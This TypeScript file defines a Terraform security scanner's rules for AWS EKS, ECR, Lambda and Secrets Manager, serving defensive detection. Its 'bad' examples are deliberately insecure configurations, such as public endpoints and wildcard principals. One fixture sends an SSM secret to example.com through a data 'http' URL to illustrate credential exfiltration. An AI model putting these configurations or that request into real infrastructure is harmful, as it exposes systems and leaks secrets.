import { insertIntoBlock, replaceAttributeValue, setAttribute, setNestedAttribute, tfFix } from '../../engine/fix';
import { terraformRule, type Rule } from '../../engine/rule';
import { parsePolicy } from '../../parse/iam';
import type { TfBlock } from '../../parse/terraform';
import { toBool, toList, toStr, type Value } from '../../parse/values';
import { publicCidrsIn } from '../util';

/*
 * EKS, ECR, Lambda and Secrets Manager.
 */

/** A key attribute that is set to something (a reference counts), not absent and not "". */
const keySet = (v: Value | undefined) => v !== undefined && v !== null && v !== '';

// ---------------------------------------------------------------- EKS

const EKS_LOG_TYPES = ['api', 'audit', 'authenticator', 'controllerManager', 'scheduler'];

const eksLogging = terraformRule({
  id: 'aws-eks-enable-control-plane-logging',
  title: 'EKS cluster does not send all control plane logs to CloudWatch',
  severity: 'medium',
  impact: 'Without API, audit and authenticator logs, calls to the Kubernetes API (and abuse of stolen credentials) leave no trace to investigate.',
  remediation: 'Set enabled_cluster_log_types to ["api", "audit", "authenticator", "controllerManager", "scheduler"].',
  references: ['https://docs.aws.amazon.com/eks/latest/userguide/control-plane-logs.html'],
  compliance: ['CIS EKS 2.1.1', 'NIST 800-53 AU-2'],
  equivalents: { trivy: ['AVD-AWS-0038'], checkov: ['CKV_AWS_37'], kics: ['66f130d9-b81d-4e8e-9b08-da74b9c891df'] },
  fixable: true,
  resources: ['aws_eks_cluster'],
  check(cluster, ctx) {
    const attr = cluster.attr('enabled_cluster_log_types');
    let present: string[] = [];
    if (attr) {
      const list = toList(attr.value);
      if (!list) return;
      const strs = list.map(toStr);
      if (strs.some((s) => s === undefined)) return; // an unknown entry may be the missing type
      present = strs as string[];
    }
    const missing = EKS_LOG_TYPES.filter((t) => !present.some((p) => p.toLowerCase() === t.toLowerCase()));
    if (missing.length === 0) return;
    const all = [...present, ...missing].map((t) => `"${t}"`).join(', ');
    ctx.report({
      at: attr ?? cluster,
      message: `${cluster.address} does not enable the control plane log type(s) ${missing.join(', ')}.`,
      fix: tfFix('Enable every control plane log type', attr ? replaceAttributeValue(attr, `[${all}]`) : setAttribute(cluster, 'enabled_cluster_log_types', `[${all}]`)),
    });
  },
  examples: {
    bad: [
      'resource "aws_eks_cluster" "main" {\n  name     = "main"\n  role_arn = "arn:aws:iam::123456789012:role/eks"\n  vpc_config {\n    subnet_ids = ["subnet-1", "subnet-2"]\n  }\n}\n',
      'resource "aws_eks_cluster" "main" {\n  name                      = "main"\n  enabled_cluster_log_types = ["api", "audit"]\n}\n',
    ],
    good: [
      'resource "aws_eks_cluster" "main" {\n  name                      = "main"\n  enabled_cluster_log_types = ["api", "audit", "authenticator", "controllerManager", "scheduler"]\n}\n',
      'variable "log_types" {}\nresource "aws_eks_cluster" "main" {\n  name                      = "main"\n  enabled_cluster_log_types = var.log_types\n}\n',
    ],
  },
});

const eksSecrets = terraformRule({
  id: 'aws-eks-encrypt-secrets',
  title: 'EKS cluster does not encrypt Kubernetes secrets with a KMS key',
  severity: 'high',
  impact: 'Secrets are stored in etcd with only the default disk encryption; anyone with access to etcd data or its backups reads them without needing a key you control.',
  remediation: 'Add an encryption_config block with resources = ["secrets"] and provider { key_arn = <KMS key ARN> }.',
  references: ['https://docs.aws.amazon.com/eks/latest/userguide/enable-kms.html'],
  compliance: ['CIS EKS 5.3.1', 'NIST 800-53 SC-28'],
  equivalents: { trivy: ['AVD-AWS-0039'], checkov: ['CKV_AWS_58'], kics: ['63ebcb19-2739-4d3f-aa5c-e8bbb9b85281'] },
  resources: ['aws_eks_cluster'],
  check(cluster, ctx) {
    const configs = cluster.blocks('encryption_config');
    if (configs.some((c) => c.dynamic)) return;
    let reason = 'has no encryption_config';
    for (const c of configs) {
      const list = toList(c.get('resources'));
      if (!list) return; // unknown resources
      const strs = list.map(toStr);
      if (!strs.includes('secrets')) {
        if (strs.some((s) => s === undefined)) return;
        reason = 'has an encryption_config that does not cover "secrets"';
        continue;
      }
      const provider = c.block('provider');
      if (provider?.dynamic) return;
      const key = provider?.get('key_arn');
      if (keySet(key)) return;
      reason = 'encrypts "secrets" without a KMS key_arn';
    }
    const at = configs[0] ?? cluster;
    ctx.report({ at, message: `${cluster.address} ${reason}, so Kubernetes secrets are not envelope-encrypted with KMS.` });
  },
  examples: {
    bad: [
      'resource "aws_eks_cluster" "main" {\n  name = "main"\n}\n',
      'resource "aws_eks_cluster" "main" {\n  name = "main"\n  encryption_config {\n    resources = ["secrets"]\n    provider {\n      key_arn = ""\n    }\n  }\n}\n',
    ],
    good: [
      'resource "aws_kms_key" "eks" {\n  enable_key_rotation = true\n}\nresource "aws_eks_cluster" "main" {\n  name = "main"\n  encryption_config {\n    resources = ["secrets"]\n    provider {\n      key_arn = aws_kms_key.eks.arn\n    }\n  }\n}\n',
      'variable "kms" {}\nresource "aws_eks_cluster" "main" {\n  name = "main"\n  encryption_config {\n    resources = ["secrets"]\n    provider {\n      key_arn = var.kms\n    }\n  }\n}\n',
    ],
  },
});

/** endpoint_public_access of a cluster: true by default. undefined when unknown. */
function eksPublic(cluster: TfBlock): { vpc: TfBlock | undefined; isPublic: boolean | undefined } {
  const vpcs = cluster.blocks('vpc_config');
  const vpc = vpcs[0];
  if (!vpc) return { vpc, isPublic: true };
  if (vpc.dynamic) return { vpc, isPublic: undefined };
  const v = vpc.get('endpoint_public_access');
  return { vpc, isPublic: v === undefined || v === null ? true : toBool(v) };
}

const eksPublicEndpoint = terraformRule({
  id: 'aws-eks-no-public-endpoint',
  title: 'EKS cluster API endpoint is reachable from the internet',
  severity: 'critical',
  impact: 'The Kubernetes API server is exposed to the internet: stolen credentials or an API server vulnerability can be used from anywhere.',
  remediation: 'Set vpc_config { endpoint_public_access = false, endpoint_private_access = true } and reach the API through the VPC.',
  references: ['https://docs.aws.amazon.com/eks/latest/userguide/cluster-endpoint.html'],
  compliance: ['CIS EKS 5.4.2', 'NIST 800-53 SC-7'],
  equivalents: { trivy: ['AVD-AWS-0040'], checkov: ['CKV_AWS_39'], kics: ['42f4b905-3736-4213-bfe9-c0660518cda8'] },
  fixable: true,
  resources: ['aws_eks_cluster'],
  check(cluster, ctx) {
    const { vpc, isPublic } = eksPublic(cluster);
    if (isPublic !== true) return;
    const attr = vpc?.attr('endpoint_public_access');
    let fix;
    if (!vpc) {
      fix = tfFix('Make the endpoint private', insertIntoBlock(cluster, ['vpc_config {', '  endpoint_private_access = true', '  endpoint_public_access  = false', '}']));
    } else {
      const privateOn = toBool(vpc.get('endpoint_private_access')) === true;
      fix = privateOn
        ? tfFix('Set endpoint_public_access = false', setAttribute(vpc, 'endpoint_public_access', 'false'))
        : tfFix('Make the endpoint private', setAttribute(vpc, 'endpoint_public_access', 'false'), setAttribute(vpc, 'endpoint_private_access', 'true'));
    }
    ctx.report({
      at: attr ?? vpc ?? cluster,
      message: attr ? `${cluster.address} sets endpoint_public_access = true.` : `${cluster.address} leaves endpoint_public_access at its default (true).`,
      fix,
    });
  },
  examples: {
    bad: [
      'resource "aws_eks_cluster" "main" {\n  name = "main"\n  vpc_config {\n    subnet_ids             = ["subnet-1"]\n    endpoint_public_access = true\n  }\n}\n',
      'resource "aws_eks_cluster" "main" {\n  name = "main"\n  vpc_config {\n    subnet_ids = ["subnet-1"]\n  }\n}\n',
      'resource "aws_eks_cluster" "main" {\n  name = "main"\n}\n',
    ],
    good: [
      'resource "aws_eks_cluster" "main" {\n  name = "main"\n  vpc_config {\n    subnet_ids              = ["subnet-1"]\n    endpoint_private_access = true\n    endpoint_public_access  = false\n  }\n}\n',
      'variable "public" {}\nresource "aws_eks_cluster" "main" {\n  name = "main"\n  vpc_config {\n    subnet_ids             = ["subnet-1"]\n    endpoint_public_access = var.public\n  }\n}\n',
    ],
  },
});

const eksPublicCidrs = terraformRule({
  id: 'aws-eks-no-public-cidr-access',
  title: 'Public EKS API endpoint is open to all addresses',
  severity: 'critical',
  impact: 'With the public endpoint allowed from 0.0.0.0/0, anyone on the internet can reach the Kubernetes API server and try credentials or exploits.',
  remediation: 'Restrict vpc_config.public_access_cidrs to the networks that need the API, or disable the public endpoint.',
  references: ['https://docs.aws.amazon.com/eks/latest/userguide/cluster-endpoint.html'],
  compliance: ['NIST 800-53 SC-7'],
  equivalents: { trivy: ['AVD-AWS-0041'], checkov: ['CKV_AWS_38'], kics: ['61cf9883-1752-4768-b18c-0d57f2737709'] },
  resources: ['aws_eks_cluster'],
  check(cluster, ctx) {
    const { vpc, isPublic } = eksPublic(cluster);
    if (isPublic !== true) return;
    const attr = vpc?.attr('public_access_cidrs');
    if (attr) {
      const open = publicCidrsIn(attr.value);
      if (open.length === 0) return;
      ctx.report({ at: attr, message: `${cluster.address} allows the public API endpoint from ${open.join(', ')}.` });
      return;
    }
    ctx.report({ at: vpc ?? cluster, message: `${cluster.address} has a public API endpoint without public_access_cidrs, so it is open to 0.0.0.0/0.` });
  },
  examples: {
    bad: [
      'resource "aws_eks_cluster" "main" {\n  name = "main"\n  vpc_config {\n    subnet_ids          = ["subnet-1"]\n    public_access_cidrs = ["0.0.0.0/0"]\n  }\n}\n',
      'resource "aws_eks_cluster" "main" {\n  name = "main"\n  vpc_config {\n    subnet_ids             = ["subnet-1"]\n    endpoint_public_access = true\n  }\n}\n',
    ],
    good: [
      'resource "aws_eks_cluster" "main" {\n  name = "main"\n  vpc_config {\n    subnet_ids          = ["subnet-1"]\n    public_access_cidrs = ["203.0.113.0/24"]\n  }\n}\n',
      'resource "aws_eks_cluster" "main" {\n  name = "main"\n  vpc_config {\n    subnet_ids             = ["subnet-1"]\n    endpoint_public_access = false\n  }\n}\n',
      'variable "cidrs" {}\nresource "aws_eks_cluster" "main" {\n  name = "main"\n  vpc_config {\n    subnet_ids          = ["subnet-1"]\n    public_access_cidrs = var.cidrs\n  }\n}\n',
    ],
  },
});

// ---------------------------------------------------------------- ECR

const ecrScanOnPush = terraformRule({
  id: 'aws-ecr-enable-image-scans',
  title: 'ECR repository does not scan images on push',
  severity: 'high',
  impact: 'Images with known vulnerabilities are pushed and deployed without anyone being told.',
  remediation: 'Set image_scanning_configuration { scan_on_push = true } (or configure registry-wide scanning).',
  references: ['https://docs.aws.amazon.com/AmazonECR/latest/userguide/image-scanning.html'],
  compliance: ['NIST 800-53 RA-5'],
  equivalents: { trivy: ['AVD-AWS-0030'], checkov: ['CKV_AWS_163'], kics: ['9630336b-3fed-4096-8173-b9afdfe346a7'] },
  fixable: true,
  resources: ['aws_ecr_repository'],
  check(repo, ctx) {
    // Registry-wide scanning configured in the module replaces the per-repository setting.
    if (ctx.module.resourcesOfType('aws_ecr_registry_scanning_configuration').length) return;
    const cfg = repo.block('image_scanning_configuration');
    if (cfg?.dynamic) return;
    const attr = cfg?.attr('scan_on_push');
    if (attr && toBool(attr.value) !== false) return;
    ctx.report({
      at: attr ?? cfg ?? repo,
      message: attr ? `${repo.address} sets scan_on_push = false.` : `${repo.address} does not enable scan_on_push (default false).`,
      fix: tfFix('Set scan_on_push = true', setNestedAttribute(repo, ['image_scanning_configuration'], 'scan_on_push', 'true')),
    });
  },
  examples: {
    bad: [
      'resource "aws_ecr_repository" "app" {\n  name = "app"\n}\n',
      'resource "aws_ecr_repository" "app" {\n  name = "app"\n  image_scanning_configuration {\n    scan_on_push = false\n  }\n}\n',
    ],
    good: [
      'resource "aws_ecr_repository" "app" {\n  name = "app"\n  image_scanning_configuration {\n    scan_on_push = true\n  }\n}\n',
      'variable "scan" {}\nresource "aws_ecr_repository" "app" {\n  name = "app"\n  image_scanning_configuration {\n    scan_on_push = var.scan\n  }\n}\n',
    ],
  },
});

const ecrImmutable = terraformRule({
  id: 'aws-ecr-immutable-tags',
  title: 'ECR repository allows image tags to be overwritten',
  severity: 'high',
  impact: 'Anyone who can push can replace the image behind an existing tag (such as a release tag) with a malicious one, which is then deployed as if it were the reviewed image.',
  remediation: 'Set image_tag_mutability = "IMMUTABLE".',
  references: ['https://docs.aws.amazon.com/AmazonECR/latest/userguide/image-tag-mutability.html'],
  compliance: ['NIST 800-53 CM-5'],
  equivalents: { trivy: ['AVD-AWS-0031'], checkov: ['CKV_AWS_51'], kics: ['d1846b12-20c5-4d45-8798-fc35b79268eb'] },
  fixable: true,
  resources: ['aws_ecr_repository'],
  check(repo, ctx) {
    const attr = repo.attr('image_tag_mutability');
    const v = attr ? toStr(attr.value) : 'MUTABLE';
    if (v !== 'MUTABLE') return;
    ctx.report({
      at: attr ?? repo,
      message: attr ? `${repo.address} sets image_tag_mutability = "MUTABLE".` : `${repo.address} leaves image_tag_mutability at its default ("MUTABLE").`,
      fix: tfFix('Set image_tag_mutability = "IMMUTABLE"', setAttribute(repo, 'image_tag_mutability', '"IMMUTABLE"')),
    });
  },
  examples: {
    bad: [
      'resource "aws_ecr_repository" "app" {\n  name = "app"\n}\n',
      'resource "aws_ecr_repository" "app" {\n  name                 = "app"\n  image_tag_mutability = "MUTABLE"\n}\n',
    ],
    good: [
      'resource "aws_ecr_repository" "app" {\n  name                 = "app"\n  image_tag_mutability = "IMMUTABLE"\n}\n',
      'variable "mutability" {}\nresource "aws_ecr_repository" "app" {\n  name                 = "app"\n  image_tag_mutability = var.mutability\n}\n',
    ],
  },
});

const ecrPublicPolicy = terraformRule({
  id: 'aws-ecr-no-public-policy',
  title: 'ECR repository policy grants access to everyone',
  severity: 'high',
  impact: 'Any AWS principal (any account) can perform the granted ECR actions: pull private images, push images or even change the repository policy.',
  remediation: 'Name the accounts or roles that need access in Principal instead of "*", or restrict "*" with a condition such as aws:PrincipalOrgID.',
  references: ['https://docs.aws.amazon.com/AmazonECR/latest/userguide/repository-policies.html'],
  compliance: ['NIST 800-53 AC-3'],
  equivalents: { trivy: ['AVD-AWS-0032'], checkov: ['CKV_AWS_32'], kics: ['e86e26fc-489e-44f0-9bcd-97305e4ba69a'] },
  resources: ['aws_ecr_repository_policy'],
  check(r, ctx) {
    const attr = r.attr('policy');
    const doc = parsePolicy(attr?.value);
    if (!attr || !doc) return;
    const open = doc.statements.find((s) =>
      s.effect === 'Allow' && !s.hasCondition && (s.principals ?? []).includes('*') &&
      s.actions.some((a) => a === '*' || a.toLowerCase().startsWith('ecr:')));
    if (!open) return;
    ctx.report({ at: attr, message: `${r.address} allows any principal ("*") to perform ${open.actions.join(', ')}.` });
  },
  examples: {
    bad: [
      `resource "aws_ecr_repository_policy" "app" {
  repository = "app"
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Sid       = "pull"
      Effect    = "Allow"
      Principal = { AWS = "*" }
      Action    = ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"]
    }]
  })
}
`,
    ],
    good: [
      `resource "aws_ecr_repository_policy" "app" {
  repository = "app"
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Sid       = "pull"
      Effect    = "Allow"
      Principal = { AWS = "arn:aws:iam::123456789012:root" }
      Action    = ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"]
    }]
  })
}
`,
      `variable "principal" {}
resource "aws_ecr_repository_policy" "app" {
  repository = "app"
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = { AWS = var.principal }, Action = ["ecr:BatchGetImage"] }]
  })
}
`,
    ],
  },
});

const ecrCmk = terraformRule({
  id: 'aws-ecr-repository-customer-key',
  title: 'ECR repository is not encrypted with a customer-managed KMS key',
  severity: 'low',
  impact: 'Images are encrypted with an AWS-owned or AWS-managed key, so you cannot restrict, audit or revoke decryption through a key policy you control.',
  remediation: 'Set encryption_configuration { encryption_type = "KMS", kms_key = <customer-managed key ARN> }.',
  references: ['https://docs.aws.amazon.com/AmazonECR/latest/userguide/encryption-at-rest.html'],
  compliance: ['NIST 800-53 SC-12'],
  equivalents: { trivy: ['AVD-AWS-0033'], checkov: ['CKV_AWS_136'], kics: ['0e32d561-4b5a-4664-a6e3-a3fa85649157'] },
  resources: ['aws_ecr_repository'],
  check(repo, ctx) {
    const cfg = repo.block('encryption_configuration');
    if (cfg?.dynamic) return;
    const typeAttr = cfg?.attr('encryption_type');
    const type = typeAttr ? toStr(typeAttr.value) : 'AES256';
    if (type === undefined) return;
    if (type === 'KMS' && keySet(cfg?.get('kms_key'))) return;
    const message = type === 'KMS'
      ? `${repo.address} uses KMS encryption without kms_key, i.e. the AWS-managed key.`
      : `${repo.address} uses ${typeAttr ? `encryption_type "${type}"` : 'the default AES256 encryption'} instead of a customer-managed KMS key.`;
    ctx.report({ at: typeAttr ?? cfg ?? repo, message });
  },
  examples: {
    bad: [
      'resource "aws_ecr_repository" "app" {\n  name = "app"\n}\n',
      'resource "aws_ecr_repository" "app" {\n  name = "app"\n  encryption_configuration {\n    encryption_type = "KMS"\n  }\n}\n',
    ],
    good: [
      'resource "aws_kms_key" "ecr" {\n  enable_key_rotation = true\n}\nresource "aws_ecr_repository" "app" {\n  name = "app"\n  encryption_configuration {\n    encryption_type = "KMS"\n    kms_key         = aws_kms_key.ecr.arn\n  }\n}\n',
      'variable "type" {}\nresource "aws_ecr_repository" "app" {\n  name = "app"\n  encryption_configuration {\n    encryption_type = var.type\n  }\n}\n',
    ],
  },
});

// ---------------------------------------------------------------- Lambda

const lambdaTracing = terraformRule({
  id: 'aws-lambda-enable-tracing',
  title: 'Lambda function does not have active X-Ray tracing',
  severity: 'low',
  impact: 'Without traces, failures and unusual call patterns of the function (and of what it calls) are hard to see and investigate.',
  remediation: 'Set tracing_config { mode = "Active" }.',
  references: ['https://docs.aws.amazon.com/lambda/latest/dg/services-xray.html'],
  compliance: ['NIST 800-53 AU-12'],
  equivalents: { trivy: ['AVD-AWS-0066'], checkov: ['CKV_AWS_50'], kics: ['8152e0cf-d2f0-47ad-96d5-d003a76eabd1'] },
  fixable: true,
  resources: ['aws_lambda_function'],
  check(fn, ctx) {
    const cfg = fn.block('tracing_config');
    if (cfg?.dynamic) return;
    const attr = cfg?.attr('mode');
    const mode = attr ? toStr(attr.value) : 'PassThrough';
    if (mode === undefined || mode === 'Active') return;
    ctx.report({
      at: attr ?? cfg ?? fn,
      message: attr ? `${fn.address} sets tracing_config.mode = "${mode}".` : `${fn.address} does not enable active tracing (default "PassThrough").`,
      fix: tfFix('Set tracing_config.mode = "Active"', setNestedAttribute(fn, ['tracing_config'], 'mode', '"Active"')),
    });
  },
  examples: {
    bad: [
      'resource "aws_lambda_function" "api" {\n  function_name = "api"\n  role          = "arn:aws:iam::123456789012:role/api"\n  handler       = "index.handler"\n  runtime       = "nodejs20.x"\n  filename      = "api.zip"\n}\n',
      'resource "aws_lambda_function" "api" {\n  function_name = "api"\n  tracing_config {\n    mode = "PassThrough"\n  }\n}\n',
    ],
    good: [
      'resource "aws_lambda_function" "api" {\n  function_name = "api"\n  tracing_config {\n    mode = "Active"\n  }\n}\n',
      'variable "mode" {}\nresource "aws_lambda_function" "api" {\n  function_name = "api"\n  tracing_config {\n    mode = var.mode\n  }\n}\n',
    ],
  },
});

const lambdaSourceArn = terraformRule({
  id: 'aws-lambda-restrict-source-arn',
  title: 'Lambda permission for an AWS service does not name the source ARN',
  severity: 'critical',
  impact: 'Any resource of that service, in any account (for example anyone\'s S3 bucket or SNS topic), can invoke the function: a confused-deputy path into your code.',
  remediation: 'Set source_arn to the ARN of the resource that should invoke the function.',
  references: ['https://docs.aws.amazon.com/lambda/latest/dg/access-control-resource-based.html'],
  compliance: ['NIST 800-53 AC-3'],
  equivalents: { trivy: ['AVD-AWS-0067'], checkov: ['CKV_AWS_364'] },
  resources: ['aws_lambda_permission'],
  check(p, ctx) {
    const principal = toStr(p.get('principal'));
    if (!principal || !principal.endsWith('.amazonaws.com')) return;
    if (keySet(p.get('source_arn'))) return;
    const attr = p.attr('source_arn') ?? p.attr('principal');
    ctx.report({ at: attr ?? p, message: `${p.address} lets ${principal} invoke the function without a source_arn.` });
  },
  examples: {
    bad: [
      'resource "aws_lambda_permission" "s3" {\n  statement_id  = "AllowS3"\n  action        = "lambda:InvokeFunction"\n  function_name = "thumbnails"\n  principal     = "s3.amazonaws.com"\n}\n',
    ],
    good: [
      'resource "aws_lambda_permission" "s3" {\n  statement_id  = "AllowS3"\n  action        = "lambda:InvokeFunction"\n  function_name = "thumbnails"\n  principal     = "s3.amazonaws.com"\n  source_arn    = "arn:aws:s3:::uploads"\n}\n',
      'variable "arn" {}\nresource "aws_lambda_permission" "s3" {\n  action        = "lambda:InvokeFunction"\n  function_name = "thumbnails"\n  principal     = "s3.amazonaws.com"\n  source_arn    = var.arn\n}\n',
      'resource "aws_lambda_permission" "acct" {\n  action        = "lambda:InvokeFunction"\n  function_name = "thumbnails"\n  principal     = "123456789012"\n}\n',
    ],
  },
});

// ---------------------------------------------------------------- Secrets Manager

const secretCmk = terraformRule({
  id: 'aws-ssm-secret-use-customer-key',
  title: 'Secrets Manager secret is not encrypted with a customer-managed KMS key',
  severity: 'low',
  impact: 'The secret is encrypted with the account\'s AWS-managed key: every principal allowed to call GetSecretValue can decrypt it, and you cannot restrict or audit use of the key separately or share it across accounts.',
  remediation: 'Set kms_key_id to a customer-managed KMS key.',
  references: ['https://docs.aws.amazon.com/secretsmanager/latest/userguide/security-encryption.html'],
  compliance: ['NIST 800-53 SC-12'],
  equivalents: { trivy: ['AVD-AWS-0098'], checkov: ['CKV_AWS_149'], kics: ['a2f548f2-188c-4fff-b172-e9a6acb216bd', 'b0d3ef3f-845d-4b1b-83d6-63a5a380375f'] },
  resources: ['aws_secretsmanager_secret'],
  check(secret, ctx) {
    const attr = secret.attr('kms_key_id');
    const v = attr?.value;
    const awsManaged = typeof v === 'string' && /(^|:)alias\/aws\/secretsmanager$/.test(v);
    if (keySet(v) && !awsManaged) return;
    ctx.report({
      at: attr ?? secret,
      message: awsManaged
        ? `${secret.address} uses the AWS-managed key (${v}).`
        : `${secret.address} does not set kms_key_id, so the AWS-managed key is used.`,
    });
  },
  examples: {
    bad: [
      'resource "aws_secretsmanager_secret" "db" {\n  name = "db-password"\n}\n',
      'resource "aws_secretsmanager_secret" "db" {\n  name       = "db-password"\n  kms_key_id = "alias/aws/secretsmanager"\n}\n',
    ],
    good: [
      'resource "aws_kms_key" "secrets" {\n  enable_key_rotation = true\n}\nresource "aws_secretsmanager_secret" "db" {\n  name       = "db-password"\n  kms_key_id = aws_kms_key.secrets.arn\n}\n',
      'variable "key" {}\nresource "aws_secretsmanager_secret" "db" {\n  name       = "db-password"\n  kms_key_id = var.key\n}\n',
    ],
  },
});

const SECRET_REF = /\b(?:data\.)?(?:aws_ssm_parameter\.[A-Za-z0-9_-]+(?:\[[^\]]*\])?\.(?:value|insecure_value)|aws_secretsmanager_secret_version\.[A-Za-z0-9_-]+(?:\[[^\]]*\])?\.secret_(?:string|binary))\b/;

const secretExfiltration = terraformRule({
  id: 'aws-ssm-no-secret-in-http-request',
  title: 'Secret value sent in a Terraform HTTP data source request',
  severity: 'critical',
  impact: 'Every plan sends the secret to the URL\'s server (and to logs and proxies on the way): a classic way for a malicious change or module to exfiltrate credentials.',
  remediation: 'Do not put SSM parameter or Secrets Manager values into data "http" URLs, headers or bodies.',
  references: ['https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http'],
  compliance: ['NIST 800-53 SC-28'],
  equivalents: { trivy: ['AVD-AWS-0134'] },
  resources: ['data.http'],
  check(d, ctx) {
    for (const name of ['url', 'request_headers', 'request_body']) {
      const attr = d.attr(name);
      const m = attr ? SECRET_REF.exec(attr.source) : null;
      if (!attr || !m) continue;
      ctx.report({ at: attr, message: `${d.address} sends ${m[0]} in its ${name}.` });
    }
  },
  examples: {
    bad: [
      'resource "aws_ssm_parameter" "token" {\n  name  = "token"\n  type  = "SecureString"\n  value = var.token\n}\ndata "http" "ping" {\n  url = "https://example.com/hook?t=${aws_ssm_parameter.token.value}"\n}\n',
    ],
    good: [
      'resource "aws_ssm_parameter" "token" {\n  name  = "token"\n  type  = "SecureString"\n  value = var.token\n}\ndata "http" "ping" {\n  url = "https://example.com/hook?name=${aws_ssm_parameter.token.name}"\n}\n',
    ],
  },
});

export const rules: Rule[] = [
  eksLogging, eksSecrets, eksPublicEndpoint, eksPublicCidrs,
  ecrScanOnPush, ecrImmutable, ecrPublicPolicy, ecrCmk,
  lambdaTracing, lambdaSourceArn,
  secretCmk, secretExfiltration,
];
